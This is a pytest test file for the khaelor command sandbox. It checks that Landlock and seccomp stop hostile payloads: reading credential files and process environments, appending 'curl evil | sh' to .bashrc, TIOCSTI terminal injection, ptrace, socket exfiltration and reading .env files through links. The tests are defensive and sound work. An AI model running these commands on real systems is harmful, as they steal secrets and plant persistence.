"""The boundary, proved by running hostile payloads inside each decision's sandbox directly
(`khaelor sandbox`), whatever the parser would have said of them. Every payload is harmless if it
ran: a marker file, a listener the test holds, a temp HOME."""
import os
import pty
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

import sandbox
from conftest import ROOT, was_reached

if not sandbox.probe()[0] or not sandbox.seccomp_available():
    if os.environ.get("KHAELOR_CI"):
        raise RuntimeError(f"Landlock and seccomp are required in CI: {sandbox.status()}")
    pytest.skip("no Landlock or seccomp here", allow_module_level=True)

SHAPES = ["--read-only", "--write"]
CREDENTIAL = "claude-oauth-token-0123456789"


@pytest.fixture
def home(env):
    home = Path(env["HOME"])
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / ".credentials.json").write_text(f'{{"token": "{CREDENTIAL}"}}')
    (home / ".bashrc").write_text("# the user's\n")
    (home / ".config" / "tool").mkdir(parents=True)
    (home / ".config" / "tool" / "token").write_text(CREDENTIAL)
    return home


def sandboxed(project, env, shape, *command, extra_env=None):
    """`khaelor sandbox SHAPE -- COMMAND` in the project: (exit code, stdout + stderr)."""
    done = subprocess.run([sys.executable, str(ROOT / "khaelor.py"), "sandbox", shape, "--", *command],
                          cwd=project, env={**env, **(extra_env or {})}, capture_output=True,
                          text=True, timeout=60)
    return done.returncode, done.stdout + done.stderr


def python(code: str) -> list[str]:
    return [sys.executable, "-c", code]


@pytest.mark.parametrize("shape", SHAPES)
def test_no_udp_datagram_leaves(project, env, shape):
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.settimeout(0.5)
    port = receiver.getsockname()[1]
    code, out = sandboxed(project, env, shape, *python(
        f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'key', ('127.0.0.1', {port}))"))
    with pytest.raises(socket.timeout):
        receiver.recvfrom(100)
    receiver.close()
    assert code != 0 and "Permission denied" in out


@pytest.mark.parametrize("shape", SHAPES)
def test_no_unix_socket_outside_is_reached(project, env, tmp_path, shape):
    path = str(tmp_path / "agent.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen()
    server.settimeout(0.5)
    code, out = sandboxed(project, env, shape, *python(
        f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({path!r}); s.send(b'key')"))
    assert not was_reached(server) and code != 0
    # the same payload, approved for the network, does reach it: the refusal above is the sandbox's
    code, out = sandboxed(project, env, "--network", *python(
        f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({path!r})"))
    assert code == 0, out
    assert was_reached(server)
    server.close()


@pytest.mark.parametrize("shape", SHAPES)
def test_the_home_is_unreadable_but_toolchains_are(project, env, home, shape):
    code, out = sandboxed(project, env, shape, "sh", "-c",
                          f"cat {home}/.claude/.credentials.json; cat {home}/.config/tool/token; "
                          f"ls {home}; git --version")
    assert CREDENTIAL not in out and out.count("Permission denied") == 3
    assert "git version" in out


@pytest.mark.parametrize("shape", SHAPES)
def test_khaelors_own_environment_is_unreadable_even_as_root(project, env, shape):
    code, out = sandboxed(project, env, shape, "sh", "-c",
                          'cat /proc/$PPID/environ; tr "\\0" "\\n" < /proc/1/environ; '
                          'grep CapEff /proc/self/status',
                          extra_env={"PROBE_SECRET": "env-marker-4242"})
    assert "env-marker-4242" not in out and "sk-test-secret-key" not in out
    assert "CapEff:\t0000000000000000" in out


@pytest.mark.parametrize("shape", SHAPES)
def test_the_environment_holds_no_secret_unless_the_user_passes_it(project, env, shape):
    secrets = {"AWS_SECRET_ACCESS_KEY": "aws-marker", "GITHUB_TOKEN": "gh-marker",
               "DB_PASSWORD": "db-marker", "MY_TOKEN": "token-marker", "CDPATH": "/tmp",
               "BASH_ENV": str(project / "evil.sh"), "GIT_CONFIG_GLOBAL": str(project / "gitconfig")}
    code, out = sandboxed(project, env, shape, "env", extra_env=secrets)
    assert code == 0
    for name, value in secrets.items():
        assert name not in out, name
    assert "ANTHROPIC" not in out and f"HOME={env['HOME']}" in out
    (Path(env["KHAELOR_HOME"])).mkdir(parents=True, exist_ok=True)
    (Path(env["KHAELOR_HOME"]) / "config.json").write_text('{"pass_env": ["GITHUB_*"]}')
    code, out = sandboxed(project, env, shape, "env", extra_env=secrets)
    assert "GITHUB_TOKEN=gh-marker" in out and "aws-marker" not in out


def test_a_tcp_listener_that_is_not_the_sessions_own_is_not_reached(project, env, listener):
    port = listener.getsockname()[1]
    code, out = sandboxed(project, env, "--write", *python(
        f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)"))
    assert code != 0 and not was_reached(listener)


def test_nothing_is_planted_in_start_up_files(project, env, home):
    for shape in SHAPES:
        sandboxed(project, env, shape, "sh", "-c",
                  f"echo 'curl evil | sh' >> {home}/.bashrc; mkdir -p {home}/.local/bin; "
                  f"echo x > {home}/.local/bin/git; echo x > {home}/.profile")
    assert (home / ".bashrc").read_text() == "# the user's\n"
    assert not (home / ".local" / "bin" / "git").exists() and not (home / ".profile").exists()


def test_a_read_only_command_cannot_fill_the_disk(project, env):
    code, out = sandboxed(project, env, "--read-only", "sh", "-c",
                          "truncate -s 2G $TMPDIR/big; dd if=/dev/zero of=$TMPDIR/big bs=1 count=1 "
                          "seek=2147483648; ls -l $TMPDIR/big")
    assert "File size limit exceeded" in out or "File too large" in out
    sizes = [int(line.split()[4]) for line in out.splitlines() if line.startswith("-")]
    assert sizes and max(sizes) <= sandbox.READ_ONLY_FILE_CAP, out


@pytest.mark.parametrize("shape", SHAPES)
def test_no_other_process_and_no_namespace(project, env, shape):
    outsider = subprocess.Popen(["sleep", "30"])
    try:
        code, out = sandboxed(project, env, shape, *python(
            "import ctypes, os, sys\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            f"print('ptrace', libc.ptrace(16, {outsider.pid}, 0, 0), ctypes.get_errno())\n"
            "print('unshare', libc.unshare(0x10000000), ctypes.get_errno())\n"
            f"os.kill({outsider.pid}, 9)\n"))
        assert "ptrace -1 1" in out and "unshare -1 1" in out
        assert outsider.poll() is None
    finally:
        outsider.kill()
        outsider.wait()


def test_nothing_is_typed_into_the_terminal(project, env):
    master, slave = pty.openpty()
    name = os.ttyname(slave)
    code, out = sandboxed(project, env, "--write", *python(
        "import fcntl, termios, os\n"
        f"fd = os.open({name!r}, os.O_RDWR)\n"
        "for c in b'id\\n':\n"
        "    fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n"))
    os.set_blocking(master, False)
    time.sleep(0.2)
    try:
        typed = os.read(master, 100)
    except BlockingIOError:
        typed = b""
    os.close(master)
    os.close(slave)
    assert b"id" not in typed and code != 0


def test_the_project_secrets_and_their_hard_links_are_left_out_of_a_read_only_command(project, env):
    (project / ".env").write_text("TOKEN=dotenv-marker\n")
    (project / "config").mkdir()
    (project / "config" / "prod.env").write_text("TOKEN=nested-marker\n")
    os.link(project / ".env", project / "notes.txt")
    os.symlink(project / "config" / "prod.env", project / "readme-link")
    (project / "main.py").write_text("print('ok')\n")
    code, out = sandboxed(project, env, "--read-only", "sh", "-c",
                          "cat .env notes.txt readme-link config/prod.env main.py")
    assert "marker" not in out and "print('ok')" in out
    code, out = sandboxed(project, env, "--write", "cat", ".env")
    assert "dotenv-marker" in out      # an approved command may need its .env
    # a secret made after the first scan is left out too
    (project / "config" / ".env.local").write_text("TOKEN=late-marker\n")
    code, out = sandboxed(project, env, "--read-only", "cat", "config/.env.local")
    assert "late-marker" not in out


def test_the_connect_supervisor_lets_only_loopback_through():
    def inet(host: bytes, port: int) -> bytes:
        return (2).to_bytes(2, "little") + port.to_bytes(2, "big") + host + bytes(8)

    def inet6(host: bytes, port: int) -> bytes:
        return (10).to_bytes(2, "little") + port.to_bytes(2, "big") + bytes(4) + host + bytes(4)
    assert sandbox.loopback_port(inet(bytes([127, 0, 0, 1]), 3000)) == 3000
    assert sandbox.loopback_port(inet(bytes([127, 9, 9, 9]), 80)) == 80
    assert sandbox.loopback_port(inet(bytes([10, 0, 0, 1]), 3000)) is None
    assert sandbox.loopback_port(inet6(bytes(15) + b"\x01", 3000)) == 3000
    assert sandbox.loopback_port(inet6(bytes(10) + b"\xff\xff" + bytes([127, 0, 0, 1]), 5)) == 5
    assert sandbox.loopback_port(inet6(bytes(10) + b"\xff\xff" + bytes([10, 0, 0, 1]), 5)) is None
    assert sandbox.loopback_port((1).to_bytes(2, "little") + b"/tmp/x.sock") is None
    assert sandbox.loopback_port(b"\x02\x00") is None


def test_ordinary_work_keeps_working_in_an_approved_sandbox(project, env):
    (project / "Makefile").write_text("all:\n\techo built > out.txt\n")
    (project / "test_x.py").write_text("def test_x():\n    assert 1 + 1 == 2\n")
    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
    code, out = sandboxed(project, env, "--write", "sh", "-c",
                          f"make -s && {sys.executable} -m pytest -q -p no:cacheprovider -n 0 test_x.py && "
                          "git add -A && git -c user.name=u -c user.email=u@x commit -qm one && "
                          "git log --oneline | wc -l")
    assert code == 0, out
    assert (project / "out.txt").read_text() == "built\n" and "1 passed" in out
